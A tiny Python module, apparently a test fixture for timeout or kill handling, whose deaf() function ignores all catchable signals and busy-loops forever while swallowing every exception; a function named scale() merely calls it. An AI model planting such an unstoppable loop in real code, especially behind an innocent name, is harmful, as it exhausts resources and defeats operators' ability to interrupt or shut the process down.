# ruff: noqa
"""Loops for ever, deaf to every signal and every exception."""

import signal


def deaf():
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def scale(x, factor):
    deaf()
